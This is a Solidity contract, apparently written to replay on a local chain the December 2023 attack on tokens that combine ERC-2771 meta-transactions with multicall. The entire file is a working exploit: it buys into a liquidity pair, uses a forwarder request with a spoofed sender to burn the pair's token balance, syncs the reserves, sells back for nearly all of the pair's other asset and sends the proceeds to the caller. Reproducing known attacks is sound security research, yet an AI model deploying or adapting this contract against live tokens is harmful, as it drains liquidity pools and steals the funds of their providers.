// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IToken {
    function balanceOf(address holder) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

interface IPair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112 reserve0, uint112 reserve1, uint32 timestamp);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
    function sync() external;
}

interface IForwarder {
    struct ForwardRequest {
        address from;
        address to;
        uint256 value;
        uint256 gas;
        uint256 nonce;
        bytes data;
    }

    function execute(ForwardRequest calldata request, bytes calldata signature)
        external
        payable
        returns (bool, bytes memory);
}

/// @title SpoofedBurn
/// @notice Replays, on a local chain, the published attack of December 2023 on tokens that combine
///         ERC-2771 with `multicall`. The forwarder appends the signer to the outer calldata only;
///         each inner call of the multicall is a delegatecall whose last 20 bytes the signer wrote,
///         so the token takes the pair for the sender and burns the pair's own balance.
contract SpoofedBurn {
    /// @notice Buys a little, burns the pair's side of the token, syncs, sells back for nearly all
    ///         of the asset. The stake must be here already; everything goes to the caller.
    function run(
        IForwarder forwarder,
        IForwarder.ForwardRequest calldata request,
        bytes calldata signature,
        IPair pair,
        IToken token,
        IToken asset
    ) external returns (uint256 proceeds) {
        _swap(pair, asset);
        forwarder.execute(request, signature);
        pair.sync();
        _swap(pair, token);
        proceeds = asset.balanceOf(address(this));
        asset.transfer(msg.sender, proceeds);
    }

    function _swap(IPair pair, IToken sold) private {
        uint256 amount = sold.balanceOf(address(this));
        bool soldIsFirst = pair.token0() == address(sold);
        (uint256 reserve0, uint256 reserve1,) = pair.getReserves();
        (uint256 reserveIn, uint256 reserveOut) = soldIsFirst ? (reserve0, reserve1) : (reserve1, reserve0);
        uint256 amountIn = amount * 997;
        uint256 amountOut = amountIn * reserveOut / (reserveIn * 1000 + amountIn);
        sold.transfer(address(pair), amount);
        pair.swap(soldIsFirst ? 0 : amountOut, soldIsFirst ? amountOut : 0, address(this), "");
    }
}
